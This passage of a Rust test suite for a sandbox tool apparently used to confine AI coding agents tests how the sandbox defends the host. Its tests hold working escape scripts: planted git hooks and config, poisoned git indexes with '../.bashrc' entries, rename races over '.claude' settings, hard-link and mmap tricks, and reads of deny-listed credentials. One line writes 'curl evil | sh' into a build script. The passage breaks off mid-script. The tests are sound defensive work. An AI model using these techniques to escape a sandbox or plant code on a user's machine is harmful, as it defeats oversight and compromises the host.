fn the_before_command_hook_cannot_be_rewritten_from_the_sandbox() {
    let env = TestEnv::new();
    let project = env.project();
    let hook = project.join("scripts/hook.sh");
    write(&hook, "#!/bin/sh\necho allow\n");
    write(
        &project.join(".warden/settings.json"),
        r#"{"warden": {"hooks": {"beforeCommand": "../scripts/hook.sh"}}}"#,
    );
    // A project's own hook needs the user's trust (docs/policy.md).
    env.write_settings(
        "home/.config/warden/settings.json",
        &format!(
            r#"{{"warden": {{"trustedProjects": [{:?}]}}}}"#,
            project.display().to_string()
        ),
    );
    let out = sh(
        &env,
        &project,
        &[],
        &(attempts(&[
            ("rewrite", "echo 'touch /tmp/pwned' >> scripts/hook.sh"),
            (
                "replace",
                "rm -f scripts/hook.sh && echo x > scripts/hook.sh",
            ),
        ]) + "echo x > scripts/other.sh && echo wrote-other"),
    );
    assert_refused(&out, &["rewrite", "replace"]);
    assert!(out.stdout.contains("wrote-other"), "{out:?}");
    assert_eq!(
        std::fs::read_to_string(&hook).unwrap(),
        "#!/bin/sh\necho allow\n"
    );
    let check = env.run(["check", "--write", hook.to_str().unwrap()]);
    assert_eq!(check.code, 1, "{check:?}");
}

/// An allowWrite entry that is a git dir — the repository's `.git` for an agent that works in
/// a subdirectory and commits, or a bare repository — keeps its hooks and config read-only;
/// a missing hooks directory (bare repositories made with an empty template) is reserved.
#[test]
fn a_git_dir_allowed_for_writing_keeps_its_hooks_and_config() {
    let env = TestEnv::new();
    let repo = env.project().join("m");
    let sub = repo.join("sub");
    std::fs::create_dir_all(&sub).unwrap();
    let git = |dir: &Path, args: &[&str]| git_in(&env, dir, args);
    git(&repo, &["init", "-q"]);
    let bare = env.root().join("srv/x.git");
    std::fs::create_dir_all(&bare).unwrap();
    git(&bare, &["init", "-q", "--bare", "--template="]);
    assert!(!bare.join("hooks").exists());
    let config_before = std::fs::read_to_string(repo.join(".git/config")).unwrap();
    let dotgit = repo.join(".git");
    let script = attempts(&[
        (
            "hook",
            "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > ../.git/hooks/pre-commit",
        ),
        ("config", "echo '[core]' >> ../.git/config"),
        (
            "bare-hook",
            &format!(
                "mkdir -p {b}/hooks && echo x > {b}/hooks/post-receive",
                b = bare.display()
            ),
        ),
        (
            "bare-config",
            &format!("echo '[core]' >> {}/config", bare.display()),
        ),
    ]) + &format!("echo x > {}/description && echo wrote-bare", bare.display());
    let out = sh(
        &env,
        &sub,
        &[
            "--allow-write",
            dotgit.to_str().unwrap(),
            "--allow-write",
            bare.to_str().unwrap(),
        ],
        &script,
    );
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(&out, &["hook", "config", "bare-hook", "bare-config"]);
    assert!(out.stdout.contains("wrote-bare"), "{out:?}");
    assert!(!repo.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(repo.join(".git/config")).unwrap(),
        config_before
    );
    assert!(
        !bare.join("hooks").exists(),
        "the placeholder was left behind"
    );
    let allowing = env.write_settings(
        "bare.json",
        &format!(
            r#"{{"filesystem": {{"allowWrite": [{:?}]}}}}"#,
            bare.display().to_string()
        ),
    );
    let allowed = env.run([
        "check",
        "--settings",
        allowing.to_str().unwrap(),
        "--write",
        bare.join("description").to_str().unwrap(),
    ]);
    assert_eq!(allowed.code, 0, "{allowed:?}");
    let check = env.run([
        "check",
        "--settings",
        allowing.to_str().unwrap(),
        "--write",
        bare.join("hooks/post-receive").to_str().unwrap(),
    ]);
    assert_eq!(check.code, 1, "{check:?}");
}

/// A bare repository inside the project (`remote.git` beside its clone, pushed to by the
/// host): its hooks run on the host's `git push`. The view keeps its hooks and config
/// read-only, and `warden check` says so too.
#[test]
fn a_bare_repository_inside_the_project_keeps_its_hooks_and_config() {
    let env = TestEnv::new();
    let project = env.project();
    let bare = project.join("remote.git");
    let out = std::process::Command::new("git")
        .args(["init", "-q", "--bare"])
        .arg(&bare)
        .env("HOME", env.home())
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let config_before = std::fs::read_to_string(bare.join("config")).unwrap();
    let script = attempts(&[
        (
            "hook",
            "printf '#!/bin/sh\\ntouch /tmp/pwned\\n' > remote.git/hooks/post-receive",
        ),
        ("config", "echo '[core]' >> remote.git/config"),
    ]) + "echo x > remote.git/description && echo wrote-description";
    let out = sh(&env, &project, &[], &script);
    assert_eq!(out.code, 0, "{out:?}");
    assert_refused(&out, &["hook", "config"]);
    assert!(out.stdout.contains("wrote-description"), "{out:?}");
    assert!(!bare.join("hooks/post-receive").exists());
    assert_eq!(
        std::fs::read_to_string(bare.join("config")).unwrap(),
        config_before
    );
    for (path, code) in [
        (bare.join("hooks/post-receive"), 1),
        (bare.join("config"), 1),
        (bare.join("description"), 0),
    ] {
        let check = env
            .command()
            .current_dir(&project)
            .args(["check", "--write"])
            .arg(&path)
            .output()
            .unwrap();
        assert_eq!(check.status.code(), Some(code), "{path:?}: {check:?}");
    }
}

/// The host frees a placeholder's name during the run; pid 1 takes it again with a fresh
/// placeholder, which is briefly reachable through the project's writable mount before its
/// read-only bind. A command that grabs it then (a descriptor held from that moment) must
/// not be able to create `.claude/settings.json` through it: the fresh placeholder of a
/// directory name is a file, in which nothing can be created.
#[test]
fn a_placeholder_made_again_during_the_run_cannot_be_grabbed_and_filled() {
    let env = TestEnv::new();
    let project = env.project();
    let script = r#"
import os, time
open("started", "w").close()
end = time.time() + 4
made = []
while time.time() < end:
    try:
        fd = os.open(".claude", os.O_PATH | os.O_NOFOLLOW)
    except OSError:
        continue
    try:
        w = os.open("settings.json", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(w, b'{"hooks": {}}')
        os.close(w)
        made.append("through a held descriptor")
    except OSError:
        pass
    os.close(fd)
print("made" if made else "never made", flush=True)
"#;
    let child = start(&env, &project, &[], "python3", script);
    wait_for(&project.join("started"));
    std::thread::sleep(std::time::Duration::from_millis(100));
    // The host removes the (empty, marked) placeholder; pid 1 reserves the name again.
    std::fs::remove_dir(project.join(".claude")).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(500));
    let now = std::fs::symlink_metadata(project.join(".claude"));
    let (stdout, stderr) = finish(child);
    assert!(
        now.as_ref().is_ok_and(|m| m.is_file()),
        "the name was not reserved by a file: {now:?}\n{stdout}\n{stderr}"
    );
    assert!(stdout.contains("never made"), "{stdout}\n{stderr}");
    assert!(!project.join(".claude/settings.json").exists());
    // Removed at the end like any placeholder.
    assert!(!project.join(".claude").exists(), "{stderr}");
}

/// The host removes a placeholder during the run (`git clean -fd` removes empty untracked
/// directories) while the command waits to rename its own `.claude` (with settings that run
/// code) into the freed name. pid 1 must take the name back first, or, if the command won,
/// end the sandbox and move the planted entry aside: the host never keeps it at `.claude`.
#[test]
fn a_placeholder_the_host_removes_cannot_be_taken_over_by_the_command() {
    let env = TestEnv::new();
    let project = env.project();
    for round in 0..3 {
        let script = r#"
import os, time
os.makedirs(".s", exist_ok=True)
open(".s/settings.json", "w").write('{"hooks": {"SessionStart": []}}')
open("started", "w").close()
end = time.time() + 4
won = False
while time.time() < end:
    try:
        os.rename(".s", ".claude")
        won = True
        break
    except OSError:
        pass
print("renamed" if won else "never renamed", flush=True)
time.sleep(0.5)
"#;
        let child = start(&env, &project, &[], "python3", script);
        wait_for(&project.join("started"));
        std::thread::sleep(std::time::Duration::from_millis(50));
        // The host removes the (empty, marked) placeholder.
        let removed = std::fs::remove_dir(project.join(".claude"));
        let (stdout, stderr) = finish(child);
        assert!(
            removed.is_ok(),
            "round {round}: {removed:?} {stdout} {stderr}"
        );
        assert!(
            !project.join(".claude/settings.json").exists(),
            "round {round}: the command's .claude took the name: {stdout}\n{stderr}"
        );
        if stdout.contains("renamed") && !stdout.contains("never") {
            assert!(
                stderr.contains("blocked"),
                "round {round}: {stdout}\n{stderr}"
            );
        }
        // Clean up for the next round: what was moved aside, and the command's leftovers.
        for e in std::fs::read_dir(&project).unwrap().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name.starts_with(".claude") || name == ".s" || name == "started" {
                let _ = std::fs::remove_dir_all(e.path());
                let _ = std::fs::remove_file(e.path());
            }
        }
    }
}

/// The user's own `.claude` removed on the host during the run (`rm -rf`, a checkout that
/// drops it) while the command waits to rename its own in: the command's copy must not end
/// up kept as the user's.
#[test]
fn a_protected_directory_the_host_removes_cannot_be_replaced_by_the_command() {
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join(".claude/settings.json"), "{\"user\": true}\n");
    let script = r#"
import os, time
os.makedirs("evil", exist_ok=True)
open("evil/settings.json", "w").write('{"hooks": "EVIL"}')
open("started", "w").close()
end = time.time() + 4
while time.time() < end:
    try:
        os.rename("evil", ".claude")
        print("renamed", flush=True)
        break
    except OSError:
        pass
time.sleep(0.5)
"#;
    let child = start(&env, &project, &[], "python3", script);
    wait_for(&project.join("started"));
    std::thread::sleep(std::time::Duration::from_millis(50));
    std::fs::remove_dir_all(project.join(".claude")).unwrap();
    let (stdout, stderr) = finish(child);
    let kept = std::fs::read_to_string(project.join(".claude/settings.json")).unwrap_or_default();
    assert!(
        !kept.contains("EVIL"),
        "the command's .claude was kept: {stdout}\n{stderr}"
    );
}

/// The command may use git (the index and objects are writable), but an index entry named
/// `../.bashrc` or `.git/hooks/…` would make the host's next `git checkout -- .` write
/// outside the sandbox. pid 1 checks each index the command writes; a poisoned one ends the
/// sandbox and is moved aside.
#[test]
fn a_poisoned_git_index_ends_the_sandbox_and_never_reaches_the_hosts_git() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .current_dir(&project)
            .args(args)
            .env("HOME", env.home())
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}: {out:?}");
    };
    git(&["init", "-q"]);
    let script = r#"
import hashlib, subprocess
open("AAAAAAAAAA", "w").write("echo pwned\n")
subprocess.run(["git", "add", "AAAAAAAAAA"], check=True)
data = bytearray(open(".git/index", "rb").read())
i = data.index(b"AAAAAAAAAA")
data[i:i + 10] = b"../.bashrc"
body = bytes(data[:-20])
open(".git/index", "wb").write(body + hashlib.sha1(body).digest())
import time
time.sleep(2)
print("survived", flush=True)
"#;
    let out = sh(&env, &project, &[], &format!("python3 -c '{script}'"));
    assert!(!out.stdout.contains("survived"), "{out:?}");
    assert!(out.stderr.contains("git index"), "{out:?}");
    let index = std::fs::read(project.join(".git/index")).unwrap_or_default();
    assert!(
        !index.windows(10).any(|w| w == b"../.bashrc"),
        "the poisoned index was left for the host's git"
    );
    // And an ordinary `git add`/`commit` inside is fine.
    let out = sh(
        &env,
        &project,
        &[],
        "echo hi > ok.txt && git add ok.txt && git -c user.email=t@t -c user.name=t commit -qm ok && echo committed",
    );
    assert!(out.stdout.contains("committed"), "{out:?}");
}

/// A missing denyRead path whose directory the host moves away and makes again
/// (`mv dir dir.old; mkdir dir`) before writing it, and one the host creates as a symlink
/// (stow-style dotfiles): both masked all the same.
#[test]
fn a_late_deny_read_path_behind_a_moved_directory_or_a_symlink_is_masked() {
    let env = TestEnv::new();
    let project = env.project();
    let s = env.root().join("S");
    std::fs::create_dir_all(s.join("dir")).unwrap();
    let key = s.join("dir/key");
    let aws = s.join("aws");
    let dotfiles = env.root().join("dotfiles/aws");
    let script = format!(
        "touch started; while [ ! -e go ]; do sleep 0.05; done; \
         cat {key} {creds} 2>&1; echo finished",
        key = key.display(),
        creds = aws.join("credentials").display(),
    );
    let child = start(
        &env,
        &project,
        &[
            "--deny-read",
            key.to_str().unwrap(),
            "--deny-read",
            aws.to_str().unwrap(),
        ],
        "sh",
        &script,
    );
    wait_for(&project.join("started"));
    std::fs::rename(s.join("dir"), s.join("dir.old")).unwrap();
    std::fs::create_dir(s.join("dir")).unwrap();
    write(&key, "KEY-SECRET\n");
    write(&dotfiles.join("credentials"), "AWS-SECRET\n");
    std::os::unix::fs::symlink(&dotfiles, &aws).unwrap();
    std::thread::sleep(std::time::Duration::from_millis(500));
    std::fs::write(project.join("go"), "").unwrap();
    let (stdout, stderr) = finish(child);
    assert!(stdout.contains("finished"), "{stdout}\n{stderr}");
    assert!(!stdout.contains("SECRET"), "{stdout}\n{stderr}");
}

/// A relative `core.hooksPath` in the user's global git config applies in every repository,
/// relative to its worktree: in the project, that directory is the host's hooks.
#[test]
fn a_relative_hooks_path_in_the_global_git_config_is_protected_in_the_project() {
    let env = TestEnv::new();
    let project = env.project();
    write(
        &env.home().join(".gitconfig"),
        "[core]\n\thooksPath = .githooks\n",
    );
    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
    std::fs::create_dir_all(project.join(".githooks")).unwrap();
    let out = sh(
        &env,
        &project,
        &[],
        &attempts(&[("hook", "echo 'touch /tmp/pwned' > .githooks/pre-commit")]),
    );
    assert_refused(&out, &["hook"]);
    assert!(!project.join(".githooks/pre-commit").exists());
    let check = env.run([
        "check",
        "--write",
        project.join(".githooks/pre-commit").to_str().unwrap(),
    ]);
    assert_eq!(check.code, 1, "{check:?}");
}

/// The same through a hard link: `ln` onto `.git/index` raises no write event, and writing
/// through a second name elsewhere in `.git` raises none on `index`. git never links its
/// index, so a linked one ends the sandbox.
#[test]
fn a_git_index_brought_in_or_written_through_a_hard_link_ends_the_sandbox() {
    let env = TestEnv::new();
    let project = env.project();
    let out = std::process::Command::new("git")
        .current_dir(&project)
        .args(["init", "-q"])
        .output()
        .unwrap();
    assert!(out.status.success());
    for script in [
        "echo x > a && git add a && cp .git/index .git/tmpx && rm .git/index && \
         ln .git/tmpx .git/index; sleep 2; echo survived",
        "echo x > b && git add b && ln .git/index .git/objects/alias; sleep 2; echo survived",
    ] {
        let out = sh(&env, &project, &[], script);
        assert!(!out.stdout.contains("survived"), "{script}: {out:?}");
        assert!(out.stderr.contains("hard links"), "{script}: {out:?}");
        let meta = std::fs::metadata(project.join(".git/index"));
        assert!(
            meta.map_or(true, |m| std::os::unix::fs::MetadataExt::nlink(&m) == 1),
            "{script}: a linked index was left for the host's git"
        );
        for leftover in [".git/tmpx", ".git/objects/alias"] {
            let _ = std::fs::remove_file(project.join(leftover));
        }
    }
}

/// Three ways a poisoned index once outlived the check (red-team round 12): the writer keeps
/// the index open until the sandbox dies (no close event while pid 1 watches), a linked
/// worktree's own index (`.git/worktrees/NAME/index`), and a split index whose shared index
/// is edited in place after the index naming it was checked. None reaches the host's git.
#[test]
fn a_poisoned_index_held_open_in_a_worktree_or_in_a_shared_index_never_reaches_the_host() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |dir: &Path, args: &[&str]| git_in(&env, dir, args);
    git(&project, &["init", "-q"]);
    git(
        &project,
        &[
            "-c",
            "user.email=t@t",
            "-c",
            "user.name=t",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "init",
        ],
    );
    git(&project, &["worktree", "add", "-q", "wt"]);
    // `poison INDEX`: the entry AAAAAAAAAA renamed ../.bashrc, checksum fixed, bytes printed.
    write(
        &env.root().join("poison.py"),
        r#"import hashlib, sys
data = bytearray(open(sys.argv[1], "rb").read())
i = data.index(b"AAAAAAAAAA")
data[i:i + 10] = b"../.bashrc"
body = bytes(data[:-20])
sys.stdout.buffer.write(body + hashlib.sha1(body).digest())
"#,
    );
    let poison = env.root().join("poison.py");
    let add = "echo 'echo pwned' > AAAAAAAAAA && git add AAAAAAAAAA && rm AAAAAAAAAA";
    let cases = [
        (
            "held open",
            project.clone(),
            project.join(".git/index"),
            format!(
                "{add} && python3 {p} .git/index > $TMPDIR/p || exit 9\n\
                 ( exec 3<>.git/index; cat $TMPDIR/p >&3; sleep 30 ) &\n\
                 sleep 0.5; echo done",
                p = poison.display()
            ),
        ),
        (
            // Through a shared mapping: no write event at all, but the times change (pid 1
            // looks every second).
            "mapped",
            project.clone(),
            project.join(".git/index"),
            format!(
                "{add} && python3 {p} .git/index > $TMPDIR/p && python3 -c '\
import mmap, os, sys, time
p = open(sys.argv[1], \"rb\").read()
f = open(\".git/index\", \"r+b\")
m = mmap.mmap(f.fileno(), len(p))
m[:] = p
time.sleep(4)
print(\"survived\")
' $TMPDIR/p; echo done",
                p = poison.display()
            ),
        ),
        (
            "worktree",
            project.join("wt"),
            project.join(".git/worktrees/wt/index"),
            format!(
                "cd wt && {add} && python3 {p} ../.git/worktrees/wt/index > $TMPDIR/p && \
                 cp $TMPDIR/p ../.git/worktrees/wt/index; sleep 2; echo done",
                p = poison.display()
            ),
        ),
        (
            "shared index",
            project.clone(),
            project.join(".git/index"),
            "echo 'echo pwned' > AAAAAAAAAA && git add AAAAAAAAAA && rm AAAAAAAAAA && \
             git update-index --split-index && \
             python3 -c 'import glob; p = glob.glob(\".git/sharedindex.*\")[0]; \
             d = open(p, \"rb\").read(); f = open(p, \"r+b\"); \
             f.write(d.replace(b\"AAAAAAAAAA\", b\"../.bashrc\")); f.close()'; \
             sleep 2; echo done"
                .to_string(),
        ),
    ];
    for (label, cwd, index, script) in cases {
        let out = sh(&env, &project, &[], &script);
        assert!(out.stderr.contains("git index"), "{label}: {out:?}");
        assert!(!out.stdout.contains("survived"), "{label}: {out:?}");
        // What the host's git would read: no entry leaves the worktree.
        let ls = std::process::Command::new("git")
            .current_dir(&cwd)
            .args(["ls-files"])
            .output()
            .unwrap();
        let listed = String::from_utf8_lossy(&ls.stdout);
        assert!(!listed.contains(".bashrc"), "{label}: {listed}\n{out:?}");
        let bytes = std::fs::read(&index).unwrap_or_default();
        assert!(
            !bytes.windows(10).any(|w| w == b"../.bashrc"),
            "{label}: the poisoned index was left for the host's git"
        );
        // Start the next case from a clean index.
        let _ = std::fs::remove_file(&index);
        for e in std::fs::read_dir(project.join(".git")).unwrap().flatten() {
            let name = e.file_name().to_string_lossy().into_owned();
            if name.starts_with("sharedindex.") || name.starts_with("index.warden-blocked") {
                let _ = std::fs::remove_dir_all(e.path());
                let _ = std::fs::remove_file(e.path());
            }
        }
        git(&cwd, &["reset", "-q"]);
    }
    assert!(!env.home().join(".bashrc").exists());
}

/// Red-team round 13: a tree cache naming a tree with `.claude/settings.json` (the user's
/// next `git commit` would store it), a symbolic link planted as `.git/COMMIT_EDITMSG` (the
/// host's `git commit` writes through it), and a worktree added during the run whose
/// `commondir` is pointed elsewhere: none survives the run.
#[test]
fn a_tree_cache_a_git_dir_symlink_or_a_new_worktree_cannot_reach_the_host() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |dir: &Path, args: &[&str]| git_in(&env, dir, args);
    git(&project, &["init", "-q"]);
    write(&project.join("README"), "readme\n");
    git(&project, &["add", "."]);
    git(
        &project,
        &[
            "-c",
            "user.email=t@t",
            "-c",
            "user.name=t",
            "commit",
            "-qm",
            "init",
        ],
    );
    let victim = env.root().join("victim_rc");
    write(&victim, "# the user's rc\n");
    // 1. The tree cache.
    let script = r#"set -e
echo change >> README; git add README; git write-tree >/dev/null
export GIT_INDEX_FILE=$TMPDIR/idx; cp .git/index $GIT_INDEX_FILE
blob=$(echo '{"hooks":{}}' | git hash-object -w --stdin)
git update-index --add --cacheinfo 100644,$blob,.claude/settings.json
T=$(git write-tree); unset GIT_INDEX_FILE
python3 - "$T" <<'PY'
import sys, hashlib, os
p = '.git/index'; d = bytearray(open(p, 'rb').read()[:-20]); i = d.find(b'TREE'); j = i + 8
nl = d.index(b'\n', j); d[nl + 1:nl + 21] = bytes.fromhex(sys.argv[1])
d += hashlib.sha1(d).digest(); open(p + '.n', 'wb').write(d); os.rename(p + '.n', p)
PY
sleep 2; echo survived"#;
    let out = sh(&env, &project, &[], script);
    assert!(!out.stdout.contains("survived"), "{out:?}");
    assert!(out.stderr.contains("tree cache"), "{out:?}");
    git(&project, &["reset", "-q"]);
    // 2. A symbolic link in the git dir.
    let out = sh(
        &env,
        &project,
        &[],
        &format!(
            "rm -f .git/COMMIT_EDITMSG; ln -s {} .git/COMMIT_EDITMSG; sleep 1; echo survived",
            victim.display()
        ),
    );
    assert!(!out.stdout.contains("survived"), "{out:?}");
    assert!(out.stderr.contains("symbolic link"), "{out:?}");
    assert!(!project.join(".git/COMMIT_EDITMSG").is_symlink());
    git(
        &project,
        &[
            "-c",
            "user.email=t@t",
            "-c",
            "user.name=t",
            "commit",
            "-q",
            "--allow-empty",
            "-m",
            "x",
        ],
    );
    assert_eq!(
        std::fs::read_to_string(&victim).unwrap(),
        "# the user's rc\n"
    );
    // 3. A worktree added during the run, its commondir pointed elsewhere.
    let out = sh(
        &env,
        &project,
        &[],
        "git worktree add -q wt && git init -q --bare $TMPDIR/evil && \
         echo $TMPDIR/evil > .git/worktrees/wt/commondir; sleep 3; echo survived",
    );
    assert!(!out.stdout.contains("survived"), "{out:?}");
    assert!(out.stderr.contains("commondir"), "{out:?}");
    let left = std::fs::read_to_string(project.join(".git/worktrees/wt/commondir"));
    assert!(left.is_err(), "the repointed commondir was left: {left:?}");
}

/// Red-team round 15: git with `index.threads` (Scalar sets it) reads the entries from where
/// the index's `IEOT` table says and the extensions from where its `EOIE` record says; an
/// index whose normal view lists README while its threaded view, hidden in an `IEOT`
/// payload, lists `.git/hooks/pre-commit` must not reach the host (there, `git checkout --
/// .` wrote the hook and the next commit ran it).
#[test]
fn an_index_whose_threaded_view_differs_never_reaches_the_hosts_git() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_in(&env, &project, args);
    git(&["init", "-q"]);
    write(&project.join("README"), "readme\n");
    git(&["add", "."]);
    let script = r#"set -e
R=$(git rev-parse :README)
H=$(printf '#!/bin/sh\necho pwned\n' | git hash-object -w --stdin)
python3 - "$R" "$H" <<'PY'
import sys, struct, hashlib, os
def entry(path, mode, oid):
    e = struct.pack('>10I', 0, 0, 0, 0, 0, 0, mode, 0, 0, 0) + bytes.fromhex(oid)
    e += struct.pack('>H', len(path)) + path.encode()
    return e + b'\0' * (8 - len(e) % 8)
def ext(sig, payload):
    return sig + struct.pack('>I', len(payload)) + payload
good = entry('README', 0o100644, sys.argv[1])
evil = entry('.git/hooks/pre-commit', 0o100755, sys.argv[2])
head = b'DIRC' + struct.pack('>II', 2, 1)
hidden = len(head) + len(good) + 8
table = struct.pack('>III', 1, hidden, 1)
outer = ext(b'IEOT', evil + ext(b'IEOT', table))
h = hashlib.sha1(b'IEOT' + struct.pack('>I', len(table))).digest()
body = head + good + outer + ext(b'EOIE', struct.pack('>I', hidden + len(evil)) + h)
open('.git/index.n', 'wb').write(body + hashlib.sha1(body).digest())
os.rename('.git/index.n', '.git/index')
PY
sleep 2; echo survived"#;
    let out = sh(&env, &project, &[], script);
    assert!(!out.stdout.contains("survived"), "{out:?}");
    assert!(
        out.stderr.contains("IEOT") || out.stderr.contains("EOIE"),
        "{out:?}"
    );
    // The host's threaded git sees no hook entry, and checking out writes none.
    let threaded = |args: &[&str]| {
        let mut all = vec!["-c", "index.threads=4"];
        all.extend_from_slice(args);
        std::process::Command::new("git")
            .current_dir(&project)
            .args(&all)
            .env("HOME", env.home())
            .output()
            .unwrap()
    };
    let listed = String::from_utf8_lossy(&threaded(&["ls-files"]).stdout).into_owned();
    assert!(!listed.contains("hooks"), "{listed}");
    let _ = threaded(&["checkout", "--", "."]);
    assert!(!project.join(".git/hooks/pre-commit").exists());
}

/// Red-team round 15: inotify instances are counted per uid, and every sandbox runs as the
/// caller's: one sandbox holding all of them left the next sandbox's pid 1 without its
/// watches (a `.git/commondir` the second one wrote lived on until it ended). A sandbox now
/// gets a quarter of the caller's instances, so the next one is still watched.
#[test]
fn one_sandbox_cannot_take_the_inotify_instances_the_next_one_is_watched_with() {
    let env = TestEnv::new();
    let project = env.project();
    write(&project.join(".git/HEAD"), "ref: refs/heads/main\n");
    write(&project.join(".git/config"), "[core]\n");
    let host_max: usize = std::fs::read_to_string("/proc/sys/fs/inotify/max_user_instances")
        .unwrap()
        .trim()
        .parse()
        .unwrap();
    // A, in a project of its own (in B's, A's pid 1 would watch B's git dir too and take the
    // pointer away first): takes every instance it can get and holds them.
    let elsewhere = env.root().join("elsewhere");
    std::fs::create_dir_all(&elsewhere).unwrap();
    let (_hog, line) = warden_tests::spawn_and_read_line(
        env.command()
            .current_dir(&elsewhere)
            .args([
                "run",
                "--",
                "python3",
                "-c",
                &warden_tests::hold_inotify_instances(8),
            ])
            .stderr(Stdio::piped()),
    );
    let held: usize = line.trim().parse().unwrap_or_else(|_| panic!("{line:?}"));
    assert!(
        held <= (host_max / 4).max(16),
        "one sandbox took {held} of {host_max} inotify instances"
    );
    // B, while A holds them: its pid 1 still watches, and ends it at its commondir.
    let out = sh(
        &env,
        &project,
        &[],
        "echo \"$PWD/evil\" > .git/commondir; sleep 5; echo survived",
    );
    assert_eq!(out.code, 137, "{out:?}");
    assert!(!out.stdout.contains("survived"), "{out:?}");
    assert!(!project.join(".git/commondir").exists());
}

/// Red-team round 15: a replace ref the command makes (`refs/replace/OID`, loose or packed)
/// swaps what the host's git reads for an object of HEAD — `git show HEAD:f`, a checkout of
/// HEAD — while `git status` stays clean; grafts and alternates change history and objects
/// the same way. None outlives the run; the user's own stay.
#[test]
fn replace_refs_grafts_and_alternates_the_command_leaves_are_removed() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_as_t(&env, &project, args).trim().to_string();
    git(&["init", "-q"]);
    write(&project.join("f"), "good\n");
    git(&["add", "f"]);
    git(&["commit", "-qm", "one"]);
    let good = git(&["rev-parse", "HEAD:f"]);
    // The user's own replace ref, made before the run.
    write(&project.join(".mine"), "mine\n");
    let mine = git(&["hash-object", "-w", ".mine"]);
    std::fs::remove_file(project.join(".mine")).unwrap();
    git(&["replace", &mine, &good]);
    let script = format!(
        "set -e; E=$(echo evil | git hash-object -w --stdin); git replace {good} $E; \
         git cat-file -p HEAD:f; git update-ref refs/replace/x $E; git pack-refs --all; \
         echo {good} > .git/info/grafts; mkdir -p .git/objects/info; \
         echo /tmp > .git/objects/info/alternates; echo done"
    );
    let out = sh(&env, &project, &[], &script);
    assert!(out.stdout.contains("evil\ndone"), "{out:?}");
    assert!(out.stderr.contains("replace ref"), "{out:?}");
    assert_eq!(git(&["cat-file", "-p", "HEAD:f"]), "good");
    assert_eq!(git(&["status", "--porcelain"]), "");
    let refs = git(&["for-each-ref", "--format=%(refname)", "refs/replace"]);
    assert_eq!(refs, format!("refs/replace/{mine}"));
    assert!(!project.join(".git/info/grafts").exists());
    assert!(!project.join(".git/objects/info/alternates").exists());
    // A checkout of HEAD writes the real file.
    std::fs::remove_file(project.join("f")).unwrap();
    git(&["checkout", "--", "f"]);
    assert_eq!(
        std::fs::read_to_string(project.join("f")).unwrap(),
        "good\n"
    );
}

/// Red-team round 21: husky 9's hooks path `.husky/_` holds stubs that run `.husky/<hook>`
/// on the host's `git commit`; and a `.git/config.worktree` the command plants is read by
/// the host's git once `git sparse-checkout` turns `extensions.worktreeConfig` on.
#[test]
fn husky_hooks_and_a_planted_config_worktree_do_not_reach_the_hosts_git() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_as_t(&env, &project, args);
    git(&["init", "-q"]);
    git(&["config", "core.hooksPath", ".husky/_"]);
    write(
        &project.join(".husky/_/h"),
        "#!/bin/sh\nsh \".husky/$(basename \"$0\")\"\n",
    );
    write(&project.join(".husky/pre-commit"), "echo lint\n");
    let script = "echo 'touch /tmp/pwned' > .husky/pre-commit; echo hook $?; \
                  printf '[core]\\n\\tfsmonitor = \"touch fsmonitor-ran; false\"\\n' \
                  > .git/config.worktree; echo cw $?";
    let out = sh(&env, &project, &[], script);
    assert!(out.stdout.contains("cw 0"), "{out:?}");
    assert!(
        !out.stdout.contains("hook 0"),
        "the hook was written: {out:?}"
    );
    assert_eq!(
        std::fs::read_to_string(project.join(".husky/pre-commit")).unwrap(),
        "echo lint\n"
    );
    assert!(out.stderr.contains("config.worktree"), "{out:?}");
    assert!(!project.join(".git/config.worktree").exists());
    // The extension on, as `git sparse-checkout` sets it: nothing the command chose runs.
    git(&["config", "extensions.worktreeConfig", "true"]);
    git(&["status", "--porcelain"]);
    assert!(!project.join("fsmonitor-ran").exists());
}

/// Red-team round 16: pid 1's periodic looks (the index's times, every second: a write
/// through a shared mapping raises no inotify event) ran only when `poll` timed out, and a
/// command rewriting a git dir file every 2 ms kept it from ever timing out. They are now due
/// by the clock.
#[test]
fn a_busy_git_dir_does_not_starve_pid_1s_periodic_index_check() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_in(&env, &project, args);
    git(&["init", "-q"]);
    write(&project.join("README"), "readme\n");
    git(&["add", "README"]);
    let script = r#"(while :; do echo x > .git/ORIG_HEAD; sleep 0.002; done) &
python3 -c '
import mmap, time
f = open(".git/index", "r+b")
m = mmap.mmap(f.fileno(), 0)
m[0:4] = b"XXXX"
time.sleep(4)
print("survived", flush=True)
'"#;
    let out = sh(&env, &project, &[], script);
    assert!(!out.stdout.contains("survived"), "{out:?}");
    assert_eq!(out.code, 137, "{out:?}");
    assert!(out.stderr.contains("git index"), "{out:?}");
}

/// Red-team round 16: an index entry given back the blob id of the committed file after `git
/// add` of new content (the stat data of the new content, the id of the old) hid the change
/// from the host's `git status`, `git diff` and `git commit -a`. The index does not survive
/// the run; the change shows.
#[test]
fn an_index_entry_that_hides_a_changed_file_does_not_survive_the_run() {
    let env = TestEnv::new();
    let project = env.project();
    let git = |args: &[&str]| git_as_t(&env, &project, args);
    git(&["init", "-q"]);
    write(&project.join("build.sh"), "echo good\n");
    git(&["add", "build.sh"]);
    git(&["commit", "-qm", "init"]);
    let script = r#"set -e
old=$(git rev-parse :build.sh)
echo 'curl evil | sh' > build.sh; touch -d '-1 hour' build.sh; git add build.sh
python3 - "$old" <<'PY'
import sys, hashlib, os
d = bytearray(open('.git/index', 'rb').read()[:-20])
d[52:72] = bytes.fromhex(sys.argv[1])
